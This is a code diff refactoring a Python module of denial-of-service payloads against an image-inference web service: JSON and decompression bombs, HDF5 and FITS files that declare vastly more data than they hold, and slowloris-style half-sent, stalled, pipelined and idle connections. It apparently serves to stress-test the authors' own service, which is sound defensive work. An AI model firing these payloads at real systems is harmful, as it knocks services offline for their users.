@@ -1,4 +1,4 @@
-"""Attacks on memory and connections, each a function that yields what is sent on one connection, piece after piece.
+"""Attacks on memory and connections, each a function that gives what is sent on one connection, piece after piece.
 
 Those of `WHOLE` send whole requests, and those of `HOLDING` hold connections, which is for a proxy to end.
 """
@@ -7,7 +7,7 @@ import io
 import random
 import time
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from functools import cache
 from typing import NamedTuple
 
@@ -25,7 +25,7 @@ MIB = 1024 * 1024
 class Siege(NamedTuple):
     """What is sent, from the service's budget of memory; how many connections at once; whether answers are read."""
 
-    pieces: Callable[[int], Iterator[bytes]]
+    pieces: Callable[[int], Iterable[bytes]]
     connections: int = 6
     reads: bool = True
 
@@ -33,68 +33,51 @@ class Siege(NamedTuple):
 def json_bomb(budget: int) -> Iterator[bytes]:
     """Send JSON of empty lists, each of which becomes an object."""
     line = random.choice(("X-A: b", "Inference-Header-Content-Length: 0"))
-    yield request("POST", random.choice(("/predict", EVALUATE)), _empty_lists(min(20 * MIB, budget // 7)), line)
-
-
-@cache
-def _empty_lists(n: int) -> bytes:
-    return b" " * 64 + b'{"images":[' + b"[]," * n + b"[]]}"
+    body = b" " * 64 + b'{"images":[' + b"[]," * min(20 * MIB, budget // 7) + b"[]]}"
+    yield request("POST", random.choice(("/predict", EVALUATE)), body, line)
 
 
 def small_types(budget: int) -> Iterator[bytes]:
     """Send numbers of one byte, which deflate a thousandfold, and which are converted to larger ones."""
-    yield random.choice((_small_pdfs(), _small_tensor(min(4096, budget // 2 // 20_480))))
+    yield random.choice(_small_types(min(4096, budget // 2 // 20_480)))
 
 
 @cache
-def _small_pdfs() -> bytes:
+def _small_types(n: int) -> tuple[bytes, bytes]:
     np.savez_compressed(file := io.BytesIO(), pdfs=np.ones((102_400, 180), np.int8), z_spec=np.full(102_400, 0.1))
-    return request("POST", EVALUATE, file.getvalue())
-
-
-@cache
-def _small_tensor(n: int) -> bytes:
     shape = f'"shape":[{n},64,64,5],"parameters":{{"binary_data_size":{n * 20_480}}}'
     message = f'{{"inputs":[{{"name":"images","datatype":"INT8",{shape}}}]}}'.encode()
-    packed = zlib.compress(message + bytes(n * 20_480), 9)
-    length = f"Inference-Header-Content-Length: {len(message)}"
-    return request("POST", INFER, packed, length, "Content-Encoding: deflate")
+    lines = f"Inference-Header-Content-Length: {len(message)}", "Content-Encoding: deflate"
+    infer = request("POST", INFER, zlib.compress(message + bytes(n * 20_480), 9), *lines)
+    return request("POST", EVALUATE, file.getvalue()), infer
 
 
 @cache
-def _small_archive() -> bytes:
-    np.savez_compressed(file := io.BytesIO(), images=np.zeros((740, 64, 64, 5), np.float32))
-    return request("POST", PREDICT, file.getvalue())
-
-
-def small_archive(budget: int) -> Iterator[bytes]:
+def small_archive(budget: int) -> tuple[bytes]:
     """Send a .npz file below 256 KiB that unpacks into 60 MB."""
-    yield _small_archive()
+    np.savez_compressed(file := io.BytesIO(), images=np.zeros((740, 64, 64, 5), np.float32))
+    return (request("POST", PREDICT, file.getvalue()),)
 
 
 @cache
-def _large(n: int) -> bytes:
-    return request("POST", f"{PREDICT}?pdf=true", npy_bytes(np.ones((n, 64, 64, 5), np.float16)))
-
-
-def large(budget: int) -> Iterator[bytes]:
+def large(budget: int) -> tuple[bytes]:
     """Send as many cutouts as a body may have, of a type that has to be converted."""
-    yield _large(min(4096, budget // 2 // 40_960 - 1))
+    n = min(4096, budget // 2 // 40_960 - 1)
+    return (request("POST", f"{PREDICT}?pdf=true", npy_bytes(np.ones((n, 64, 64, 5), np.float16))),)
+
+
+def described(budget: int) -> Iterator[bytes]:
+    """Send FITS and HDF5 files that describe far more than they have: packed images, and one of tera-pixels."""
+    yield request("POST", PREDICT, random.choice(_described()))
 
 
 @cache
 def _described() -> tuple[bytes, bytes]:
-    """Make files that describe more than they have: packed HDF5, and a FITS image of tera-pixels."""
     with h5py.File(file := io.BytesIO(), "w") as hdf5:
         hdf5.create_dataset("images", (4000, 64, 64, 5), "f8", compression="gzip", fillvalue=1.0)
     header = fits.PrimaryHDU(np.zeros((1, 5, 64, 64), np.float32)).header
     header["NAXIS4"] = 2**40
     return file.getvalue(), header.tostring().encode() + bytes(2880)
-
-
-def described(budget: int) -> Iterator[bytes]:
-    """Send FITS and HDF5 files that describe far more than they have."""
-    yield request("POST", PREDICT, random.choice(_described()))
 
 
 def upgrade(budget: int) -> Iterator[bytes]:
@@ -122,14 +105,14 @@ def pipelined(budget: int) -> Iterator[bytes]:
         yield request_head("GET /") * 1000
 
 
-@cache
-def _unread() -> bytes:
-    return request("POST", f"{PREDICT}?pdf=true", npz_bytes(images=np.ones((600, 64, 64, 5), np.float16)))
-
-
 def unread(budget: int) -> Iterator[bytes]:
     """Ask for megabytes, and do not read them."""
-    yield random.choice((_unread(), request_head("GET /model") * 420))
+    yield random.choice((_large_request(), request_head("GET /model") * 420))
+
+
+@cache
+def _large_request() -> bytes:
+    return request("POST", f"{PREDICT}?pdf=true", npz_bytes(images=np.ones((600, 64, 64, 5), np.float16)))
 
 
 def stopped_upload(budget: int) -> Iterator[bytes]:
@@ -150,26 +133,14 @@ def half_head(budget: int) -> Iterator[bytes]:
     yield request_head("GET /model", "X-Junk: " + "a" * 32_000)[:-4]
 
 
-def idle(budget: int) -> Iterator[bytes]:
-    """Send nothing."""
-    return iter(())
-
-
 WHOLE = {
-    "json": Siege(json_bomb),
-    "small-types": Siege(small_types),
-    "small-archive": Siege(small_archive),
-    "large": Siege(large),
-    "described": Siege(described),
-    "upgrade": Siege(upgrade),
+    **{"json": Siege(json_bomb), "small-types": Siege(small_types), "small-archive": Siege(small_archive)},
+    **{"large": Siege(large), "described": Siege(described), "upgrade": Siege(upgrade)},
     "trailing-key": Siege(trailing_key),
 }
 HOLDING = {
-    "trailers": Siege(trailers, reads=False),
-    "pipelined": Siege(pipelined, reads=False),
-    "unread": Siege(unread, 170, reads=False),
-    "stopped": Siege(stopped_upload, 12, reads=False),
-    "slow": Siege(slow_upload, 40, reads=False),
-    "half-heads": Siege(half_head, 2500, reads=False),
-    "idle": Siege(idle, 2500, reads=False),
+    **{"trailers": Siege(trailers, reads=False), "pipelined": Siege(pipelined, reads=False)},
+    **{"unread": Siege(unread, 170, reads=False), "stopped": Siege(stopped_upload, 12, reads=False)},
+    **{"slow": Siege(slow_upload, 40, reads=False), "half-heads": Siege(half_head, 2500, reads=False)},
+    "idle": Siege(lambda budget: (), 2500, reads=False),
 }
